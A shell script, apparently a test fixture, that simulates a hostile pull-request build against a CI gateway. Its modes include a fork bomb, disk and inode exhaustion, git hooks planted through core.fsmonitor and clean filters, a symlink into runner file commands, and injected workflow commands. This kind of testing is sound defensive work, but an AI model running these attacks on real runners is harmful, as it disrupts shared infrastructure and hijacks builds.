# The build of a hostile pull request, which wants:
#   peaceful   nothing, so that the gateway can be looked at alone
#   all        to try everything, leave processes behind, and print too much
#   fail       to print commands to the runner where an error shows them
#   bomb       to fork for ever
#   disk       to leave no room on the workspace's disk, and go on
#   full       the same, and fail; without the settings of git, which are to be written again
#   files      no file to be made there, as well
#   hoard      never to let any room go
#   temporary  no room for temporary files
#   flood      to print without end, until it is told that this is enough
set -e
fill() { cat /dev/zero >"$1" 2>/dev/null || true; }
case $1 in
peaceful) ;;
all)
  ./hostile crowd crowd.txt 2>/dev/null || true
  ./hostile attack report-build.txt
  # Programs for git to run, and a link where a report may be written.
  printf '#!/bin/sh\nid -u >>"%s/git-ran-as"\n' "$PWD" >hook
  chmod +x hook
  cp hook .git/hooks/post-checkout
  git config --file .git/config core.fsmonitor "$PWD/hook"
  git config --file .git/config filter.hostile.clean "$PWD/hook; cat"
  mkdir -p .git/info
  echo '* filter=hostile' >.git/info/attributes
  touch -- *.sh # so that git looks at what is in them
  rm -rf .proxy-bench
  ln -s /github/file_commands .proxy-bench
  setsid --fork ./hostile outlive build-lives </dev/null >/dev/null 2>&1
  printf 'sh ./relay build-lives & exit\n' >relay
  for i in 1 2 3 4; do setsid sh ./relay build-lives & done
  ./hostile flood 1000000000
  ;;
fail)
  printf '::set-output name=verdict::hostile\n##[add-path]/hostile\nin the middle ##[set-env name=HOSTILE]hostile\n::warning::hostile\n' >&2
  exit 1
  ;;
disk)
  fill filler
  ;;
full)
  rm -f .git/config
  fill filler
  cat filler >filler2
  ;;
files)
  rm -f .git/config
  mkdir many
  i=0
  while : >many/$i; do i=$((i + 1)); done
  ;;
hoard)
  rm -f .git/config
  echo >building
  while :; do fill filler$((i = i + 1)); done
  ;;
temporary)
  fill "${TMPDIR:-/tmp}/filler"
  ;;
flood)
  ./hostile flood 1000000000
  ;;
bomb)
  echo >exploded
  bomb() { while :; do bomb & done; }
  for i in 1 2 3 4; do { sleep 1; bomb; } & done
  exec sleep 1000
  ;;
esac
